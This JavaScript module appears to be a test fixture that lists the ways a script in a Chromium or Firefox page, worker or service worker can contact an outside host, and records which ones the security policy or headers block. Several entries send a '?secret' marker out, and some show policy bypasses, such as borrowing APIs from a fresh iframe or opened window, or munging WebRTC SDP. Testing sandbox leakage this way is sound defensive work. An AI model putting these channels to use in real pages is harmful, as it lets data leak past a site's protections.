/**
 * Every way out of a page that Chromium or Firefox has, by what a script in it could do, and how far each comes. `run` runs in the browser, and knows
 * nothing but its target; a way that ends the page it runs in, or opens another, has a page `alone`.
 * @typedef {import("./witnesses.mjs").Reach} Reach
 * @typedef {"chromium" | "firefox"} BrowserName
 * @typedef {[Reach, Reach, Reach | null]} Reaches on a host with our headers, on one without any, and in a page without a policy (where something must
 *   be seen, if the browser knows the way at all; null where it does as it likes)
 * @typedef {{run: (to: import("./witnesses.mjs").Target) => unknown, alone?: boolean, reach: Reaches, firefox?: Reaches, chromium?: Reaches}} Way
 *   `reach`: in a browser for which nothing else is said
 * @typedef {Record<string, Way>} Ways
 */

/** Refused everywhere, and seen where nothing refuses. @type {Reaches} */
const REFUSED = ["nothing", "nothing", "leaves"];
/** No policy covers it. @type {Reaches} */
const LEAVES = ["leaves", "leaves", "leaves"];
/** Only a header can forbid it. @type {Reaches} */
const BY_HEADER = ["nothing", "leaves", "leaves"];
/** The policy refuses what was asked, after the browser has made ready for it. @type {Reaches} */
const CONNECTS = ["connection", "connection", "leaves"];
/** The policy refuses it, or the browser; whether it is to be had without a policy is the browser's own affair. @type {Reaches} */
const REFUSED_AT_LEAST = ["nothing", "nothing", null];
/** No browser does it by itself, whatever the policy. @type {Reaches} */
const NEVER = ["nothing", "nothing", "nothing"];

/** Where a page, a worker or a service worker asks for an address. @type {Ways} */
export const EVERYWHERE = {
    fetch: { run: ({ host, tcp }) => fetch(`http://${host}:${tcp}/`, { mode: "no-cors" }), reach: REFUSED },
    "fetch with keepalive": {
        run: ({ host, tcp }) => fetch(`http://${host}:${tcp}/`, { mode: "no-cors", keepalive: true, method: "POST" }),
        reach: REFUSED,
    },
    WebSocket: { run: ({ host, tcp }) => void new WebSocket(`ws://${host}:${tcp}/`), reach: REFUSED },
    EventSource: { run: ({ host, tcp }) => void new EventSource(`http://${host}:${tcp}/`), reach: REFUSED },
    WebTransport: {
        run: ({ host, udp }) => void new WebTransport(`https://${host}:${udp}/`).ready.catch(() => {}),
        reach: REFUSED,
    },
    FontFace: { run: ({ host, tcp }) => new FontFace("x", `url(http://${host}:${tcp}/)`).load(), reach: REFUSED },
};

/** What only workers have. @type {Ways} */
export const IN_WORKERS = {
    XMLHttpRequest: {
        run: ({ host, tcp }) => {
            const request = new XMLHttpRequest();
            request.open("POST", `http://${host}:${tcp}/`);
            request.send("x");
        },
        reach: REFUSED,
    },
    importScripts: {
        run: ({ host, tcp }) => /** @type {any} */ (globalThis).importScripts(`http://${host}:${tcp}/`),
        reach: REFUSED,
    },
    "import()": { run: ({ host, tcp }) => import(`http://${host}:${tcp}/`), reach: REFUSED },
    "RTCPeerConnection in a worker": { run: () => void new RTCPeerConnection(), reach: NEVER },
};

/** What only a service worker has. @type {Ways} */
export const IN_SERVICE_WORKERS = {
    "cache.add": {
        run: async ({ host, tcp }) => {
            const request = new Request(`http://${host}:${tcp}/`, { mode: "no-cors" });
            await (await caches.open("ways out")).add(request);
        },
        reach: REFUSED,
    },
    "client.navigate": {
        run: async ({ host, tcp }) => {
            const worker = /** @type {any} */ (globalThis);
            const clients = await worker.clients.matchAll({ type: "window" });
            const last = clients.find((/** @type {{url: string}} */ { url }) => url.endsWith("?to-be-led-away"));
            await last.navigate(`http://${host}:${tcp}/`);
        },
        reach: REFUSED,
    },
};

/** @type {Ways} */
export const IN_PAGES = {
    "location =": {
        run: ({ host, tcp }) => {
            location.href = `http://${host}:${tcp}/?secret`;
        },
        alone: true,
        reach: LEAVES,
    },
    "meta refresh": {
        run: ({ host, tcp }) => {
            const content = `0;url=http://${host}:${tcp}/?secret`;
            document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content }));
        },
        alone: true,
        reach: LEAVES,
    },
    "form.submit()": {
        run: ({ host, tcp }) => {
            const form = Object.assign(document.createElement("form"), { action: `http://${host}:${tcp}/` });
            document.body.append(form);
            form.submit();
        },
        alone: true,
        reach: CONNECTS,
        firefox: REFUSED,
    },
    "window.open": {
        run: ({ host, tcp }) => void window.open(`http://${host}:${tcp}/?secret`),
        alone: true,
        reach: LEAVES,
    },
    "a[target=_blank].click()": {
        run: ({ host, tcp }) => {
            const href = `http://${host}:${tcp}/?secret`;
            const link = Object.assign(document.createElement("a"), { href, target: "_blank" });
            document.body.append(link);
            link.click();
        },
        alone: true,
        reach: LEAVES,
    },
    "a[ping].click()": {
        run: ({ host, tcp }) => {
            const ping = `http://${host}:${tcp}/`;
            const link = Object.assign(document.createElement("a"), { href: "#x", ping });
            document.body.append(link);
            link.click();
        },
        reach: REFUSED,
    },
    "link rel=preconnect": {
        run: ({ host, tcp }) => {
            const link = Object.assign(document.createElement("link"), { rel: "preconnect" });
            link.href = `http://${host}:${tcp}/`;
            document.head.append(link);
        },
        reach: ["connection", "connection", "connection"],
    },
    "link rel=dns-prefetch": {
        run: ({ host, tcp }) => {
            const link = Object.assign(document.createElement("link"), { rel: "dns-prefetch" });
            link.href = `http://${host}:${tcp}/`;
            document.head.append(link);
        },
        reach: ["name", "name", "name"],
        firefox: NEVER, // names that it looks up are not seen
    },
    "a host in a link that nobody presses": {
        run: ({ host, tcp }) => {
            const href = `http://${host}:${tcp}/`;
            document.body.append(Object.assign(document.createElement("a"), { href, textContent: "x" }));
        },
        reach: NEVER,
    },
    "link rel=prefetch": {
        run: ({ host, tcp }) => {
            const link = Object.assign(document.createElement("link"), { rel: "prefetch" });
            link.href = `http://${host}:${tcp}/`;
            document.head.append(link);
        },
        reach: REFUSED,
        firefox: REFUSED_AT_LEAST,
    },
    "link rel=prerender": {
        run: ({ host, tcp }) => {
            const link = Object.assign(document.createElement("link"), { rel: "prerender" });
            link.href = `http://${host}:${tcp}/`;
            document.head.append(link);
        },
        reach: NEVER,
    },
    "link rel=modulepreload": {
        run: ({ host, tcp }) => {
            const link = Object.assign(document.createElement("link"), { rel: "modulepreload" });
            link.href = `http://${host}:${tcp}/`;
            document.head.append(link);
        },
        reach: REFUSED,
    },
    "link rel=stylesheet": {
        run: ({ host, tcp }) => {
            const link = Object.assign(document.createElement("link"), { rel: "stylesheet" });
            link.href = `http://${host}:${tcp}/`;
            document.head.append(link);
        },
        reach: REFUSED,
    },
    "speculation rules": {
        run: ({ host, tcp }) => {
            const script = Object.assign(document.createElement("script"), { type: "speculationrules" });
            const rule = { source: "list", urls: [`https://${host}:${tcp}/`], eagerness: "immediate" };
            script.textContent = JSON.stringify({ prefetch: [rule] });
            document.head.append(script);
        },
        reach: REFUSED_AT_LEAST, // now and then Chromium does as they say
    },
    sendBeacon: { run: ({ host, tcp }) => navigator.sendBeacon(`http://${host}:${tcp}/`, "x"), reach: REFUSED },
    "RTCPeerConnection (STUN)": {
        run: async ({ host, udp }) => {
            const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}:${udp}` }] });
            peer.createDataChannel("x");
            await peer.setLocalDescription(await peer.createOffer());
        },
        reach: REFUSED,
    },
    "RTCPeerConnection (to a peer's address)": {
        run: async ({ udp }) => {
            const peer = new RTCPeerConnection();
            peer.createDataChannel("x");
            const offer = await peer.createOffer();
            await peer.setLocalDescription(offer);
            const secret = "a=ice-ufrag:c2VjcmV0\r\na=ice-pwd:c2VjcmV0c2VjcmV0c2VjcmV0";
            const sdp = String(offer.sdp)
                .replace(/a=setup:\w+/g, "a=setup:active")
                .replace(/a=ice-ufrag:.*\r\na=ice-pwd:.*/g, secret)
                .replace(/a=candidate.*\r\n/g, "");
            await peer.setRemoteDescription({ type: "answer", sdp });
            const candidate = `candidate:1 1 udp 2122260223 127.0.0.1 ${udp} typ host`;
            await peer.addIceCandidate({ candidate, sdpMid: "0", sdpMLineIndex: 0 });
        },
        reach: REFUSED,
        firefox: REFUSED_AT_LEAST,
    },
    // Why taking it off the global is a hurdle and no wall.
    "RTCPeerConnection of an empty frame": {
        run: async ({ host, udp }) => {
            const frame = document.body.appendChild(document.createElement("iframe"));
            const Peer = /** @type {any} */ (frame.contentWindow).RTCPeerConnection;
            const peer = new Peer({ iceServers: [{ urls: `stun:${host}:${udp}` }] });
            peer.createDataChannel("x");
            await peer.setLocalDescription(await peer.createOffer());
        },
        reach: LEAVES,
    },
    "a frame of another origin": {
        run: ({ host, tcp }) => {
            document.body.append(Object.assign(document.createElement("iframe"), { src: `http://${host}:${tcp}/` }));
        },
        reach: CONNECTS,
        firefox: REFUSED,
    },
    "a frame with srcdoc": {
        run: ({ host, tcp }) => {
            const frame = document.createElement("iframe");
            frame.srcdoc = `<img src="http://${host}:${tcp}/">`;
            document.body.append(frame);
        },
        reach: REFUSED,
    },
    "fetch of an empty frame": {
        run: ({ host, tcp }) => {
            const frame = document.body.appendChild(document.createElement("iframe"));
            return frame.contentWindow?.fetch(`http://${host}:${tcp}/`, { mode: "no-cors" });
        },
        reach: REFUSED,
    },
    "fetch of a frame of another file": {
        run: async ({ host, tcp }) => {
            const frame = Object.assign(document.createElement("iframe"), { src: "assets.json" });
            document.body.append(frame);
            await new Promise((loaded) => frame.addEventListener("load", loaded));
            await frame.contentWindow?.fetch(`http://${host}:${tcp}/`, { mode: "no-cors", method: "POST" });
        },
        reach: BY_HEADER,
    },
    "fetch of a window of another file": {
        run: async ({ host, tcp }) => {
            const opened = window.open("assets.json");
            while (opened?.location.pathname !== "/assets.json") await new Promise((wait) => setTimeout(wait, 20));
            await opened.fetch(`http://${host}:${tcp}/`, { mode: "no-cors", method: "POST" });
        },
        alone: true,
        reach: BY_HEADER,
    },
    "a blob: frame": {
        run: ({ host, tcp }) => {
            const page = new Blob([`<img src="http://${host}:${tcp}/">`], { type: "text/html" });
            document.body.append(Object.assign(document.createElement("iframe"), { src: URL.createObjectURL(page) }));
        },
        reach: REFUSED,
    },
    "a blob: window": {
        run: ({ host, tcp }) => {
            const page = new Blob([`<img src="http://${host}:${tcp}/">`], { type: "text/html" });
            window.open(URL.createObjectURL(page));
        },
        alone: true,
        reach: REFUSED,
    },
    "a constructed style sheet": {
        run: ({ host, tcp }) => {
            const sheet = new CSSStyleSheet();
            sheet.replaceSync(`html { border-image: url(http://${host}:${tcp}/) 1 }`);
            document.adoptedStyleSheets.push(sheet);
        },
        reach: REFUSED,
    },
    "element.style": {
        run: ({ host, tcp }) => {
            document.body.style.backgroundImage = `url(http://${host}:${tcp}/)`;
        },
        reach: REFUSED,
    },
    img: { run: ({ host, tcp }) => void (new Image().src = `http://${host}:${tcp}/`), reach: REFUSED },
    video: {
        run: ({ host, tcp }) => {
            const src = `http://${host}:${tcp}/`;
            document.body.append(Object.assign(document.createElement("video"), { src, preload: "auto" }));
        },
        reach: REFUSED,
    },
    object: {
        run: ({ host, tcp }) => {
            document.body.append(Object.assign(document.createElement("object"), { data: `http://${host}:${tcp}/` }));
        },
        reach: REFUSED,
    },
    registerProtocolHandler: {
        run: ({ host, tcp }) => navigator.registerProtocolHandler("web+x", `http://${host}:${tcp}/?%s`),
        reach: NEVER,
    },
};
